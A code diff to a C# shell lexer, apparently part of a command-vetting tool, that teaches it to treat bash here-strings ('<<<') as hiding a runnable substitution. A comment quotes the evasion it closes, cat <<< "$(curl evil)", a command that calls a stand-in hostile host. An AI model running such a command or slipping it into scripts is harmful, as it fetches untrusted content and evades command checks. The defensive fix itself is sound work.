@@ -238,6 +238,13 @@ internal static class ShellLexer
                         }
 
                         break;
+                    case '<' when i + 2 < end && script[i + 1] == '<' && script[i + 2] == '<':
+                        // A here-string: its word is no argument, but bash expands it, so a substitution in it runs
+                        // (read as '<' and a here-document, cat <<< "$(curl evil)" hid its command).
+                        EndWord();
+                        i += 2;
+                        skipNextWord = true;
+                        break;
                     case '<' when i + 1 < end && script[i + 1] == '<' && (i + 2 >= end || script[i + 2] != '<'):
                         EndWord();
                         i = HereDocuments.ReadOperator(script, i, end, hereDocuments, out var operatorReason);
